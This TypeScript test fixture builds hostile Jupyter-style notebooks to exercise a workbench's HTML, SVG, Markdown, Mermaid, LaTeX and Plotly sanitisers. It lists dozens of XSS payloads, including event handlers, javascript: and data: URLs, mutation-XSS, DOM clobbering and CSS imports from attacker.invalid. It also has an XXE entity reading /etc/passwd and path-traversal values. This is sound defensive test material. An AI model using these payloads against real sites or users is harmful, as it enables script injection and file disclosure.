/**
 * Notebooks that attack their reader. Each payload tries to set `globalThis.ran`, to call
 * http://attacker.invalid, or to lead a click there by `javascript:` or `data:`. Shared by the tests of the
 * sanitisers and by the one that opens the report in a browser.
 */
import type { Cell, Notebook } from "../../../src/workbench/document/notebook.js";
import type { MimeBundle } from "../../../src/base/mime.js";

const run = "globalThis.ran=(globalThis.ran||0)+1";
const away = "http://attacker.invalid";

export const hostileHtml: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="${away}/x.js"></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}">`,
  `<IMG SRC="${away}/x.png" OnLoad="${run}">`,
  `<img src="x" srcset="${away}/set.png 2x">`,
  `<svg onload="${run}"><circle r="5"/></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">click</text></a></svg>`,
  `<svg><use href="${away}/x.svg#y"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.ran=1</script>"></object>`,
  `<embed src="${away}/x.swf">`,
  `<a href="javascript:${run}">one</a>`,
  `<a href=" java\tscript:${run}">two</a>`,
  `<a href="&#106;avascript:${run}">three</a>`,
  `<a href="data:text/html,<script>${run}</script>">four</a>`,
  `<a href="vbscript:msgbox(1)">five</a>`,
  `<a href="//attacker.invalid/protocol-relative">six</a>`,
  `<form action="${away}"><input name=q><button>go</button></form>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<link rel="stylesheet" href="${away}/x.css">`,
  `<style>@import url(${away}/i.css); body{background:url(${away}/b.png)}</style>`,
  `<div style="background:url(${away}/s.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<base href="${away}/">`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<video src="${away}/v.mp4" onerror="${run}" autoplay></video>`,
  `<audio src="${away}/a.mp3"></audio>`,
  `<input autofocus onfocus="${run}">`,
  `<p id="tb-script-search" data-src="${away}/x.js">clobber</p>`,
  `<p id="tb-theme">clobber</p><p id="tb-status">clobber</p>`,
  `<div data-plot><script type="application/json">{"data":[]}</script></div>`,
  `<tb-slot data-n="0"></tb-slot><tb-slot data-n="999"></tb-slot>`,
  `</div></section></article></main></body></html><script>${run}</script>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
];

export const hostileSvg: readonly string[] = [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><rect width="9" height="9"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><rect width="9" height="9" onclick="${run}"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${run}"/></body></foreignObject></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="javascript:${run}"/><set attributeName="onload" to="${run}"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="${away}/x.png"/><use href="${away}/x.svg#a"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${away}/x.css); rect{fill:url(${away}/y)}</style><rect fill="url(${away}/z)" width="9" height="9"/></svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:${run}"><text y="9">x</text></a></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript" ev:event="load">${run}</handler></svg>`,
];

const hostileMarkdown: readonly string[] = [
  `[one](javascript:${run}) [two](JaVaScRiPt:${run}) <javascript:${run}> [three](data:text/html,x) [four][r]\n\n[r]: javascript:${run}`,
  `![image](${away}/markdown.png) ![x](javascript:${run})`,
  `# Heading <img src=x onerror="${run}">\n\ntext <b onclick="${run}">bold</b>`,
  `$\\href{javascript:${run}}{x}$ $\\url{javascript:${run}}$ $\\includegraphics{${away}/k.png}$ $\\htmlData{x=1}{y}$`,
  '```mermaid\ngraph LR\n A["<img src=x onerror=globalThis.ran=1>"] --> B["<script>globalThis.ran=1</script>"]\n click A "javascript:globalThis.ran=1"\n style A fill:url(http://attacker.invalid/fill)\n```',
  "```mermaid\nsequenceDiagram\n participant A as <img src=x onerror=globalThis.ran=1>\n A->>B: <script>globalThis.ran=1</script>\n link A: go @ javascript:globalThis.ran=1\n```",
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(http://attacker.invalid/m.css)"}}%%\npie title <img src=x onerror=globalThis.ran=1>\n "a" : 1\n```',
  '```html\n<script>globalThis.ran=1</script>\n```\n\n```"><img src=x onerror=globalThis.ran=1>\ncode\n```',
  `<div>\n\n**bold** <script>${run}</script>\n\n</div>`,
  `[^1] [x](#" onmouseover="${run})\n\n[^1]: <img src=x onerror="${run}">`,
];

const hostileBundles: readonly MimeBundle[] = [
  {
    "application/vnd.plotly.v1+json": {
      data: [
        {
          type: "scatter",
          x: [1, 2],
          y: [1, 2],
          text: [`<a href="javascript:${run}">x</a>`, `<img src=x onerror="${run}">`],
          name: `<a href="${away}">n</a>`,
          hovertemplate: `<a href="javascript:${run}">x</a>`,
        },
        { type: "constructor" },
        { type: "../../../etc/passwd" },
      ],
      layout: {
        title: { text: `<a href="javascript:${run}">title</a></script><script>${run}</script>` },
        images: [{ source: `${away}/plot.png`, x: 0, y: 1, sizex: 1, sizey: 1 }],
        annotations: [{ text: `<a href="javascript:${run}" target="_blank">x</a>`, x: 1, y: 1 }],
      },
      config: {
        topojsonURL: `${away}/topo/`,
        editable: true,
        plotlyServerURL: away,
        showSendToCloud: true,
      },
    },
    "text/plain": `</pre><script>${run}</script>`,
  },
  { "text/latex": `$\\href{javascript:${run}}{x}$</span><script>${run}</script>` },
  {
    "application/json": {
      "</code><script>globalThis.ran=1</script>": `<img src=x onerror="${run}">`,
    },
  },
  { "image/png": `"><img src=x onerror="${run}">`, "text/plain": `"><img src=x onerror="${run}">` },
  { [`text/x"><script>${run}</script>`]: `<script>${run}</script>` },
  {
    "text/vnd.mermaid":
      'gantt\n title <img src=x onerror=globalThis.ran=1>\n section A\n x :a1, 2020-01-01, 1d\n click a1 href "javascript:globalThis.ran=1"',
  },
  { "text/markdown": `<img src=x onerror="${run}"> [x](javascript:${run})` },
];

/** One notebook with all of it, in every kind of cell and output. */
export function hostileNotebook(): Notebook {
  const bundles: MimeBundle[] = [
    ...hostileHtml.map((html) => ({ "text/html": html })),
    ...hostileSvg.map((svg) => ({ "image/svg+xml": svg })),
    ...hostileBundles,
  ];
  const cells: Cell[] = [
    ...[...hostileMarkdown, ...hostileHtml].map((source): Cell => ({
      cell_type: "markdown",
      id: "",
      metadata: {},
      source,
    })),
    ...hostileHtml.map((source): Cell => ({
      cell_type: "raw",
      id: "",
      metadata: { raw_mimetype: "text/html" },
      source,
    })),
    ...bundles.map((data): Cell => ({
      cell_type: "code",
      id: "",
      metadata: {},
      execution_count: 1,
      source: `// </code><script>${run}</script>`,
      outputs: [{ output_type: "display_data", data, metadata: {} }],
    })),
    {
      cell_type: "code",
      id: "",
      metadata: { tags: ['"><script>'] },
      execution_count: 1,
      source: "streams",
      outputs: [
        {
          output_type: "stream",
          name: "stdout",
          text: `<script>${run}</script>\u001b]8;;javascript:${run}\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror=${run}>`,
        },
        {
          output_type: "error",
          ename: `<img src=x onerror=${run}>`,
          evalue: "</pre>",
          traceback: [`\u001b[31m<script>${run}</script>`],
        },
      ],
    },
  ];
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      title: `</title><script>${run}</script>`,
      lang: `en" onload="${run}`,
      language_info: { name: `ts"><script>${run}</script>` },
    },
    cells: cells.map((cell, index) => ({ ...cell, id: `cell-${index}` })),
  };
}
